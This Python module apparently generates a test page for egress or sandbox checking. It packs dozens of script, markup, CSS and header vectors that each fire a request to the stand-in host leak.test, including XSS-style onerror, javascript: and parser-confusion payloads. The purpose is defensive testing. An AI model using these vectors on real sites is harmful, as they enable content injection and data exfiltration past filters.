"""A page that tries every way out that we know of, each to a numbered address of ``leak.test``."""

from __future__ import annotations

from html import escape

HOST = "leak.test"
SCRIPTS = (
    "fetch('{u}')",
    "new XMLHttpRequest().open('GET','{u}')||0;var x=new XMLHttpRequest();x.open('GET','{u}');x.send()",
    "navigator.sendBeacon('{u}','x')",
    "new WebSocket('{u}'.replace('http','ws'))",
    "new EventSource('{u}')",
    "new Image().src='{u}'",
    "var s=document.createElement('script');s.src='{u}';document.head.append(s)",
    "var f=document.createElement('iframe');f.src='{u}';document.body.append(f)",
    "var l=document.createElement('link');l.rel='prefetch';l.href='{u}';document.head.append(l)",
    "new Worker(URL.createObjectURL(new Blob(['importScripts(\"{u}\")'])))",
    "import('{u}')",
    "document.write('<img src=\"{u}\">')",
    "var p=new RTCPeerConnection({{iceServers:[{{urls:'stun:leak.test:3478'}}]}});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))",
    "setTimeout(function(){{top.location='{u}'}},50)",
    "setTimeout(function(){{location='{u}'}},80)",
    "window.open('{u}')",
    "var g=document.createElement('form');g.action='{u}';document.body.append(g);g.submit()",
)
MARKUP = (
    '<img src="{u}">',
    "<IMG SRC='{u}'>",
    "<img src={u}>",
    '<img src="  {u}\n">',
    '<img src="ht\ntp://leak.test/tab{n}">',
    '<img src="//leak.test/{n}">',
    '<img src="http:\\\\leak.test\\{n}">',
    '<img src="&#104;ttp://leak.test/{n}">',
    '<img/src="{u}"/onerror="fetch(\'{u}e\')">',
    "<img src=x onerror=\"new Image().src='{u}'\">",
    '<img srcset="{u} 1x, {u}b 2x">',
    '<img data-src="{u}" src="data:,">',
    '<img data-srcset="{u} 300w" class="lazyload">',
    '<div data-bg="{u}" style="width:9px;height:9px"></div>',
    '<picture><source srcset="{u}"><img></picture>',
    '<video src="{u}" poster="{u}p" autoplay preload></video>',
    '<audio src="{u}" autoplay></audio>',
    '<video><source src="{u}"><track src="{u}t" default></video>',
    '<iframe src="{u}"></iframe>',
    '<iframe srcdoc="&lt;img src=&quot;{u}&quot;&gt;"></iframe>',
    '<frameset><frame src="{u}"></frameset>',
    '<object data="{u}"></object>',
    '<embed src="{u}">',
    '<input type="image" src="{u}">',
    '<table background="{u}"><tr><td background="{u}t">x</table>',
    '<link rel="stylesheet" href="{u}">',
    '<link rel="alternate stylesheet" title="x" href="{u}">',
    '<link rel="preload" as="image" href="{u}">',
    '<link rel="preload" as="style" href="{u}" onload="this.rel=\'stylesheet\'">',
    '<link rel="prefetch" href="{u}">',
    '<link rel="prerender" href="{u}">',
    '<link rel="modulepreload" href="{u}">',
    '<link rel="preconnect" href="{u}">',
    '<link rel="dns-prefetch" href="//leak.test">',
    '<link rel="manifest" href="{u}">',
    '<link rel="icon" href="{u}">',
    '<link rel="preload" as="font" crossorigin href="{u}">',
    '<style>@import "{u}"; @import url({u}b);</style>',
    "<style>.a{n} {{ background: url('{u}') }}</style><div class=a{n}>x</div>",
    "<style>.b{n} {{ background: u\\72l('{u}') }}</style><div class=b{n}>x</div>",
    "<style>@font-face {{ font-family: f{n}; src: url({u}) }} p {{ font-family: f{n} }}</style>",
    "<style>.c{n} {{ background: image-set('{u}' 1x) }}</style><div class=c{n}>x</div>",
    "<style>.d{n}::before {{ content: url({u}) }}</style><div class=d{n}></div>",
    '<div style="background:url({u});width:9px;height:9px"></div>',
    '<div style="cursor:url({u}),auto;list-style:url({u}l)">x</div>',
    '<svg><image href="{u}" width="9" height="9"/><use href="{u}u#x"/></svg>',
    '<svg><style>@import "{u}"</style><feImage href="{u}f"/></svg>',
    '<svg><script href="{u}"></script></svg>',
    '<math><mtext><img src="{u}"></mtext></math>',
    '<noscript><img src="{u}"></noscript>',
    '<meta http-equiv="refresh" content="0;url={u}">',
    '<meta http-equiv="refresh" content="1;{u}">',
    '<a id="go{n}" href="{u}" ping="{u}p">x</a>',
    '<form action="{u}"><button>x</button></form>',
    '<script src="{u}"></script>',
    '<script type="module">import "{u}"</script>',
    '<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{u}"]}}]}}</script>',
    '<script type="importmap">{{"imports":{{"x":"{u}"}}}}</script>',
    '<template><img src="{u}"></template>',
    '<p title="<img src={u}>">x</p>',
    '<p class="a"" id="x"><img src="{u}">',
    '<!--[if lt IE 9]><script src="{u}"></script><![endif]-->',
    '<!--><img src="{u}">-->',
    '<xmp><img src="{u}"></xmp>',
    '<title><img src="{u}"></title>',
    '<body background="{u}" onload="fetch(\'{u}\')">',
    "<marquee onstart=\"fetch('{u}')\">x</marquee>",
    "<details open ontoggle=\"fetch('{u}')\">x</details>",
    "<iframe src=\"javascript:fetch('{u}')\"></iframe>",
    '<iframe src="data:text/html,<img src={u}>"></iframe>',
    '<base href="http://leak.test/base/"><img src="relative{n}.png">',
    '<img src="late{n}.png"><img src="{u}" unclosed="',
)


def page() -> bytes:
    """Return the page; the last vector leaves a tag unclosed, so it stands last."""
    parts = ["<!doctype html><html><head><meta charset=utf-8><title>way out</title></head><body>"]
    parts += [
        f"<script>try{{{escape_script(text, n)}}}catch(e){{}}</script>"
        for n, text in enumerate(SCRIPTS)
    ]
    parts += [text.format(u=f"http://{HOST}/{n}", n=n) for n, text in enumerate(MARKUP, 100)]
    return "\n".join(parts).encode()


def escape_script(text: str, number: int) -> str:
    """Return a script of ``SCRIPTS`` with its address."""
    return text.format(u=f"http://{HOST}/{number}")


HEADERS = (
    ("Link", f"<http://{HOST}/header>; rel=preload; as=image"),
    ("Refresh", f"1; url=http://{HOST}/refresh"),
    ("Content-Security-Policy-Report-Only", f"default-src 'none'; report-uri http://{HOST}/report"),
    ("Report-To", escape(f'{{"endpoints":[{{"url":"http://{HOST}/report-to"}}]}}', quote=False)),
    ("Set-Cookie", "a=1"),
)
